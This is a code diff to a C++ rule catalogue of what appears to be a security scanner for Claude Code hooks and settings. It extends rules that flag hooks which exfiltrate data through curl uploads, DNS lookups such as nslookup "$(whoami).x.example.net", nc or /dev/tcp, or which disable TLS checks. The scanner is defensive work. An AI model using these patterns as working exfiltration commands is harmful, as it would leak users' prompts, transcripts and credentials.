@@ -137,15 +137,25 @@ std::vector<Rule> rule_catalogue() {
          "or URL. Hooks run with your permissions on every matching event; review the list and "
          "remove the ones you do not recognise."},
         {"HOOK-003", Severity::high,
-         "Hook sends data off the machine (curl upload, nc, transcript upload)",
-         "A hook receives the event's data (prompts, tool input and output, the transcript path) "
-         "and runs with your permissions. Reported: curl or wget uploading a file, stdin or a "
-         "computed value (-d @file, --data-binary @-, -d \"$(…)\", -F file=@…, -T, --upload-file, "
-         "--post-file) to a host that is not loopback; nc, ncat, netcat, socat or /dev/tcp "
-         "connecting to a remote host (listening and -z port checks are not); reading the session "
-         "transcript (transcript_path, ~/.claude/projects) and sending it with any network tool. A "
-         "static notification (curl -d '{\"text\":\"done\"}' to a webhook) is not reported. Remove "
-         "the hook or send only what you reviewed to a host you control."},
+         "Hook sends data off the machine (an upload of its input, files, the environment or "
+         "the transcript; nc; DNS)",
+         "A hook receives the event's data on stdin (prompts, tool input and output, the "
+         "transcript path) and runs with your permissions. Reported when it sends something worth "
+         "having to a host that is not loopback: the hook's input (-d @-, --data-binary @-, "
+         "\"$(cat)\", jq of the input beyond the tool name, session and file path), a file (-d "
+         "@file, -F f=@file, -T, --post-file, \"$(cat file)\"), the environment (\"$(env)\", "
+         "printenv), a secret-named variable ($*_KEY, $*_TOKEN, $*_SECRET, $*PASSWORD) in the "
+         "body, the transcript, the clipboard, shell history or git diff — in a body, the URL's "
+         "query or path, or a header, with curl, wget, httpie, Invoke-WebRequest or mail; a name "
+         "with a computed part under a fixed domain looked up in DNS (nslookup "
+         "\"$(whoami).x.example.net\", dig, host, ping, curl https://$(id -u).x.example.net); nc, "
+         "ncat, netcat, socat or /dev/tcp connecting to a remote host (listening and -z port "
+         "checks are not); scp, rsync or sftp of credentials, history or the transcript. "
+         "Variables are followed through the command's assignments. A notification is not "
+         "reported: fixed or single-quoted text, or a message built from date, pwd, basename, "
+         "hostname, $USER or $CLAUDE_PROJECT_DIR, sent to a webhook whose URL (and token) comes "
+         "from your own environment ($SLACK_WEBHOOK_URL, api.telegram.org/bot$TELEGRAM_BOT_TOKEN). "
+         "Remove the hook or send only what you reviewed to a host you control."},
         {"HOOK-004", Severity::medium,
          "HTTP hook over plaintext http:// or with a literal secret header",
          "An http hook posts the event's data to its URL. Over http:// (not loopback) prompts, "
@@ -175,7 +185,12 @@ std::vector<Rule> rule_catalogue() {
          "TLS certificate verification disabled (NODE_TLS_REJECT_UNAUTHORIZED=0)",
          "NODE_TLS_REJECT_UNAUTHORIZED=0 in settings env (or a server's env) makes Node accept any "
          "certificate, so anyone on the network path can read and change API traffic and "
-         "credentials. Remove it; for a corporate proxy add its CA with NODE_EXTRA_CA_CERTS."},
+         "credentials. Remove it; for a corporate proxy add its CA with NODE_EXTRA_CA_CERTS. A "
+         "hook command that turns certificate checks off for what it fetches or sends (curl "
+         "-k/--insecure, wget --no-check-certificate, httpie --verify=no, git -c "
+         "http.sslVerify=false, pip --trusted-host, npm strict-ssl false, "
+         "NODE_TLS_REJECT_UNAUTHORIZED=0, GIT_SSL_NO_VERIFY=1, PYTHONHTTPSVERIFY=0) is reported "
+         "medium: that one request can be read or changed on the way."},
         {"PLG-001", Severity::medium,
          "Project adds a plugin marketplace or enables a plugin from an unvetted source",
          "extraKnownMarketplaces and enabledPlugins (\"name@marketplace\": true) in a committed "
@@ -314,7 +329,12 @@ std::vector<Rule> rule_catalogue() {
          "the legacy {\"matcher\": …, \"hook\": \"cmd\"} or {\"command\": …} without a "
          "\"hooks\" array, a command string where an object belongs, an event that is not a list, "
          "\"hooks\" as a list instead of an object — are skipped: the guard or the automation "
-         "they hold never runs. The finding names the ignored commands. Rewrite them in the "
+         "they hold never runs. The finding names the ignored commands and what the hook rules "
+         "would report for them (\"the ignored command opens a listener, a tunnel or a reverse "
+         "shell … (what HOOK-008 reports)\"). Medium; high when an ignored command downloads and "
+         "runs code, sends data off the machine or opens a shell to the network (HOOK-002, "
+         "HOOK-003, HOOK-008): Claude Code does not run it, but someone committed it, other "
+         "tools may run that shape, and fixing the shape would arm it. Rewrite them in the "
          "current shape (or remove them)."},
         {"PI-004", Severity::high,
          "Instructions tell Claude to download and run code or to send data off the machine",
